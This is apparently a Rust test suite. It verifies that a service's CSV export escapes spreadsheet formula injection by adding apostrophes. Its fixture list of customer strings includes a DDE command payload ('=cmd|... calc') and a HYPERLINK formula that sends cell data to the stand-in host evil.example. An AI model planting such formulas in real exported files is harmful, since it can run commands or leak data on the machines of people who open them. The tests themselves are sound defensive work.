//! CSV injection: spreadsheets never evaluate an exported string as a formula.

use gateway::Table;
use harness::{TestOrg, World, samples};
use serde_json::json;

use super::{CSV, TableCall, answer_of, assert_field, read_csv, read_delimited};

/// Strings that customers can store. A spreadsheet would evaluate some of them.
pub(super) const TEXTS: [&str; 31] = [
    "plain",
    "",
    "=1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1;\"click\")",
    "=cmd|' /C calc'!A0",
    "+1-800-555-0100",
    "-2+3",
    "-",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\r\n=1+1",
    "'=1+1",
    "''",
    "a,b;c\td",
    "a;=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "a\r\n@SUM(1+1)",
    "a;\"=1+1",
    "a;\"\"\t-2+3\"",
    "a,=1+1;+2;-3",
    ";;=1+1",
    "a; =1+1; b",
    "say \"cheese\"",
    "line one\nline two",
    "Größe 中 😀",
    "12",
    "-12.5",
    "1e5",
    " leading and trailing ",
];

/// A CSV field as a spreadsheet interprets it.
#[derive(Debug, PartialEq)]
enum Cell {
    Text(String),
    Number(f64),
    /// Text that the spreadsheet evaluates.
    Formula(String),
}

/// Interprets a field like a careless spreadsheet, which evaluates every field that looks like a formula.
fn cell(field: &str) -> Cell {
    let is_number = |text: &&str| text.bytes().all(|byte| b"+-.0123456789eE".contains(&byte));
    if let Some(number) = Some(field).filter(is_number).and_then(|text| text.parse().ok()) {
        return Cell::Number(number);
    }
    let run = field.trim_start_matches(['\t', '\r', '\n', ' ']);
    if run.starts_with(['=', '+', '-', '@']) && !field.starts_with([' ', '\n']) {
        return Cell::Formula(run.to_owned());
    }
    Cell::Text(field.to_owned())
}

#[test]
fn cell_detects_formulas_without_an_apostrophe() {
    for text in ["=1+1", "+1-800", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\r\n=1"] {
        assert!(matches!(cell(text), Cell::Formula(_)), "{text:?}");
        assert_eq!(cell(&format!("'{text}")), Cell::Text(format!("'{text}")));
    }
    assert_eq!(cell("-12.5"), Cell::Number(-12.5));
}

/// Stores a campaign for each string, in order. The campaigns have negative `customer_id`s.
pub(super) async fn store_texts(world: &World, org: &TestOrg) {
    for text in TEXTS {
        let mut campaign = samples::campaign();
        campaign["campaign"] = json!({ "name": text });
        campaign["customer"]["customer_id"] = json!(-5);
        let created = world.post("/v2/scenarios/campaigns").key(&org.key).json(&campaign).send().await;
        assert_eq!(created.status, 200, "{}", created.text());
        world.clock.advance(1);
    }
}

#[tokio::test]
async fn every_text_is_exported_unchanged_or_with_an_apostrophe() {
    let (world, org) = World::with_org().await;
    store_texts(&world, &org).await;
    let call = TableCall::get("GET /v2/scenarios/campaigns", "?limit=100");
    let lines = read_csv(&call.answer(&world, &org, CSV).await.body);
    let column = |name: &str| lines[0].iter().position(|column| column == name).expect("a column");
    let (name, customer) = (column("campaign.name"), column("customer.customer_id"));
    // The newest asset comes first.
    for (line, text) in lines[1..].iter().zip(TEXTS.iter().rev()) {
        for field in line {
            assert!(!matches!(cell(field), Cell::Formula(_)), "{field:?} is a formula");
        }
        assert_field(&line[name], &json!(text), text);
        assert_eq!(cell(&line[customer]), Cell::Number(-5.0), "numbers have no apostrophe");
    }
    assert_eq!(lines.len(), 1 + TEXTS.len());
}

#[tokio::test]
async fn apostrophes_are_added_only_where_a_formula_could_start() {
    let (world, org) = World::with_org().await;
    for (text, expected) in [
        ("a;=1+1", "a;'=1+1"),
        ("=1+1;-2", "'=1+1;'-2"),
        ("a;\"=1+1", "a;'\"=1+1"),
        ("\"=1+1\"", "\"=1+1\""),
        ("a-b; c = d\nsee @e", "a-b; c = d\nsee @e"),
    ] {
        let mut campaign = samples::campaign();
        campaign["campaign"] = json!({ "name": text });
        world.clock.advance(60_000);
        world.post("/v2/scenarios/campaigns").key(&org.key).json(&campaign).send().await;
        let call = TableCall::get("GET /v2/scenarios/campaigns", "?limit=1&fields=campaign");
        let lines = read_csv(&call.answer(&world, &org, CSV).await.body);
        assert_eq!(lines[1][0], expected);
    }
}

#[tokio::test]
async fn no_formula_starts_where_a_program_splits_a_field() {
    static TABLE: Table =
        Table { name: "rows", rows: "rows", total: None, columns: || vec!["id", "a", "b"], feature: None };
    let world = World::new().await;
    let rows: Vec<_> =
        TEXTS.iter().map(|text| json!({ "id": 1, "a": text, "b": [text, { "c": text }] })).collect();
    let csv = answer_of(&world, &TABLE, json!({ "rows": rows }), CSV).await.body;
    for delimiter in [",", ";", "\t"] {
        let lines = read_delimited(&csv, delimiter);
        for field in lines.iter().flatten().flat_map(|field| field.split('\n')) {
            assert!(!matches!(cell(field), Cell::Formula(_)), "{field:?} of {delimiter:?} is a formula");
        }
    }
}
